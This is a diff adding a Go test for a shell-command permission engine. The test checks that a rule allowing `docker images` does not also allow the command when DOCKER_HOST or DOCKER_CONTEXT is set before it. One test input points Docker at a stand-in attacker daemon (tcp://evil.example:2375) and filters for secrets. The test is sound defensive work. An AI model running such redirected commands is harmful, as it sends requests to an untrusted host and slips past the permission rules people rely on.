@@ -51,3 +51,28 @@ func TestRuleDoesNotFollowTheCwdArgument(t *testing.T) {
 		})
 	}
 }
+
+// TestRuleDoesNotCoverADaemonSetBeforeTheCommand: the words of a rule
+// never hold the assignments before a command, so a rule made from
+// `docker images` must not allow the same words sent to another daemon
+// by DOCKER_HOST or DOCKER_CONTEXT (prop review 3, C3); the same daemon
+// named by an option is a word a rule can name.
+func TestRuleDoesNotCoverADaemonSetBeforeTheCommand(t *testing.T) {
+	t.Parallel()
+	images := permission.Rule{ID: "shell-docker-images", Level: permission.LevelSession, Tool: "shell", Command: "docker images", Decision: permission.Allow}
+	for _, c := range []struct {
+		cmd   string
+		ruled bool
+	}{
+		{"docker images", true},
+		{"DOCKER_HOST=tcp://evil.example:2375 docker images --filter reference=secret", false},
+		{"DOCKER_CONTEXT=evil docker images", false},
+	} {
+		req := newReq(t, "shell", map[string]any{"command": c.cmd}, withRules(t, images))
+		var eng permission.Engine
+		d := eng.Check(req)
+		if ruled := d.Decision == permission.Allow && d.Rule != nil && d.Rule.ID == images.ID; ruled != c.ruled {
+			t.Errorf("%q: decided %s (%s); the rule decides it: %v, want %v", c.cmd, d.Decision, d.Reason, ruled, c.ruled)
+		}
+	}
+}
